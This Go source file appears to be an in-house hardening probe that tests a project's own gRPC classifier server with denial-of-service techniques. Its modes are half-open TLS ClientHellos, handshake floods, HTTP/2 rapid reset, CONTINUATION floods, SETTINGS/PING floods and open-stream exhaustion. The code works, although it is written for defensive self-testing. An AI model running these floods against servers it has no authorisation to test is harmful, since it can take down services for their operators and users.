// Command tls4 is the fourth hostile pass's TLS and HTTP/2 probe. It sends
// traffic only to -addr, with no token, so whatever the server does is done
// before authentication (with -token, after it). Modes:
//
//	halfopen   -conns TCP connections that send -partial bytes of a TLS
//	           ClientHello record (a record header declaring 16 KiB, then
//	           nothing), held for -hold; prints when the server closed them
//	handshake  -conns workers doing full TLS handshakes for -dur; prints
//	           handshakes per second
//	reset      h2 rapid reset: on each of -conns connections (TLS with
//	           -tls, else h2c prior knowledge), -streams times HEADERS then
//	           RST_STREAM at once; prints what the server answered
//	cont       a HEADERS frame without END_HEADERS and CONTINUATION frames
//	           of -bytes in all, on -conns connections
//	settings   -n SETTINGS frames (and PINGs) as fast as written, per
//	           connection
//	streams    -streams HEADERS without END_STREAM (open streams) per
//	           connection, held for -hold
package main

import (
	"bytes"
	"flag"
	"fmt"
	"log"
	"net"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/classifierd/classifierd/tools/hostile/internal/probe"
)

var (
	addr    = flag.String("addr", "127.0.0.1:50051", "listener")
	mode    = flag.String("mode", "halfopen", "halfopen, handshake, reset, cont, settings or streams")
	conns   = flag.Int("conns", 100, "connections or workers")
	useTLS  = flag.Bool("tls", true, "TLS (ALPN h2) instead of h2c")
	partial = flag.Int("partial", 5, "halfopen: bytes of the ClientHello record sent")
	hold    = flag.Duration("hold", 20*time.Second, "how long to hold")
	dur     = flag.Duration("dur", 10*time.Second, "how long to run (handshake)")
	streams = flag.Int("streams", 10000, "streams per connection (reset, streams)")
	nbytes  = flag.Int("bytes", 1<<20, "cont: header bytes per connection")
	n       = flag.Int("n", 100000, "settings: frames per connection")
	path    = flag.String("path", "/classifier.v1.ClassifierService/Route", "request path")
	ctype   = flag.String("ctype", "application/grpc", "content-type")
	token   = flag.String("token", "", "bearer token on every stream (empty: none)")
)

func main() {
	flag.Parse()
	switch *mode {
	case "handshake":
		handshakes()
		return
	}
	var wg sync.WaitGroup
	var mu sync.Mutex
	seen := map[string]int{}
	for c := 0; c < *conns; c++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var r string
			switch *mode {
			case "halfopen":
				r = halfopen()
			default:
				r = h2(*mode)
			}
			mu.Lock()
			seen[r]++
			mu.Unlock()
		}()
	}
	wg.Wait()
	keys := make([]string, 0, len(seen))
	for k := range seen {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		fmt.Printf("%d connections: %s\n", seen[k], k)
	}
}

func halfopen() string {
	nc, err := net.Dial("tcp", *addr)
	if err != nil {
		return "dial: " + err.Error()
	}
	defer nc.Close()
	rec := []byte{0x16, 0x03, 0x01, 0x40, 0x00, 0x01, 0x00, 0x3f, 0xfc, 0x03, 0x03}
	if *partial > len(rec) {
		rec = append(rec, bytes.Repeat([]byte{0}, *partial-len(rec))...)
	}
	if _, err := nc.Write(rec[:*partial]); err != nil {
		return "write: " + err.Error()
	}
	t0 := time.Now()
	_ = nc.SetReadDeadline(t0.Add(*hold))
	b := make([]byte, 4096)
	for err == nil { // a plain gRPC server writes its SETTINGS first: read on
		_, err = nc.Read(b)
	}
	if ne, ok := err.(net.Error); ok && ne.Timeout() {
		return fmt.Sprintf("held open %s", *hold)
	}
	return fmt.Sprintf("closed by server after ~%ds", int(time.Since(t0).Seconds()+0.5))
}

func handshakes() {
	var ok, bad atomic.Int64
	stop := time.Now().Add(*dur)
	var wg sync.WaitGroup
	for c := 0; c < *conns; c++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(stop) {
				c, err := probe.DialTLS(&net.Dialer{Timeout: 10 * time.Second}, *addr)
				if err != nil {
					bad.Add(1)
					continue
				}
				ok.Add(1)
				c.Close()
			}
		}()
	}
	wg.Wait()
	fmt.Printf("handshakes %d (%.0f/s), failed %d\n", ok.Load(), float64(ok.Load())/dur.Seconds(), bad.Load())
}

func dial() (net.Conn, error) {
	if *useTLS {
		return probe.DialTLS(nil, *addr)
	}
	return net.Dial("tcp", *addr)
}

func h2(m string) string {
	nc, err := dial()
	if err != nil {
		return "dial: " + err.Error()
	}
	defer nc.Close()
	if _, err := nc.Write([]byte(http2.ClientPreface)); err != nil {
		return err.Error()
	}
	// Two framers (each has its own write buffer) over one locked writer:
	// the reader acknowledges SETTINGS while the main loop writes.
	lw := &lockedWriter{w: nc}
	fr := http2.NewFramer(lw, nc)
	ackFr := http2.NewFramer(lw, nil)
	if err := fr.WriteSettings(); err != nil {
		return err.Error()
	}
	var got sync.Map
	var rsts, heads atomic.Int64
	done := make(chan string, 1)
	go func() {
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				done <- "closed (" + strings.SplitN(err.Error(), ":", 2)[0] + ")"
				return
			}
			switch f := f.(type) {
			case *http2.GoAwayFrame:
				done <- "goaway " + f.ErrCode.String() + " " + string(f.DebugData())
				return
			case *http2.RSTStreamFrame:
				rsts.Add(1)
				got.Store("rst "+f.ErrCode.String(), true)
			case *http2.HeadersFrame:
				heads.Add(1)
			case *http2.SettingsFrame:
				if !f.IsAck() {
					_ = ackFr.WriteSettingsAck()
				}
			}
		}
	}()
	hdr := func() []byte {
		var hb bytes.Buffer
		enc := hpack.NewEncoder(&hb)
		scheme := "http"
		if *useTLS {
			scheme = "https"
		}
		probe.WriteFields(enc, append(probe.Head("POST", scheme, *path, *addr, *ctype), probe.Bearer(*token)...))
		return hb.Bytes()
	}()
	sent := 0
	werr := ""
	t0 := time.Now()
	switch m {
	case "reset":
		for i := 0; i < *streams; i++ {
			id := uint32(2*i + 1)
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hdr, EndHeaders: true}); err != nil {
				werr = err.Error()
				break
			}
			if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
				werr = err.Error()
				break
			}
			sent++
		}
	case "streams":
		for i := 0; i < *streams; i++ {
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: hdr, EndHeaders: true}); err != nil {
				werr = err.Error()
				break
			}
			sent++
		}
	case "cont":
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: hdr, EndHeaders: false}); err != nil {
			return err.Error()
		}
		var hb bytes.Buffer
		enc := hpack.NewEncoder(&hb)
		val := strings.Repeat("a", 16000)
		for i := 0; sent < *nbytes; i++ {
			hb.Reset()
			_ = enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-pad-%d", i), Value: val, Sensitive: true})
			if err := fr.WriteContinuation(1, false, hb.Bytes()); err != nil {
				werr = err.Error()
				break
			}
			sent += hb.Len()
		}
	case "settings":
		for i := 0; i < *n; i++ {
			if err := fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(65535 + i%2)}); err != nil {
				werr = err.Error()
				break
			}
			if err := fr.WritePing(false, [8]byte{byte(i)}); err != nil {
				werr = err.Error()
				break
			}
			sent++
		}
	}
	el := time.Since(t0)
	wait := *hold
	if m == "reset" || m == "settings" {
		wait = 3 * time.Second
	}
	var r string
	select {
	case r = <-done:
	case <-time.After(wait):
		r = fmt.Sprintf("open after %s", wait)
	}
	var kinds []string
	got.Range(func(k, _ any) bool { kinds = append(kinds, k.(string)); return true })
	sort.Strings(kinds)
	if werr != "" {
		werr = "; write stopped: " + strings.SplitN(werr, ":", 2)[0]
	}
	return fmt.Sprintf("%s sent %d in %.1fs%s; %s; %d RST %v, %d HEADERS", m, sent, el.Seconds(), werr, r, rsts.Load(), kinds, heads.Load())
}

type lockedWriter struct {
	mu sync.Mutex
	w  net.Conn
}

func (l *lockedWriter) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(p)
}

func init() { log.SetFlags(0) }
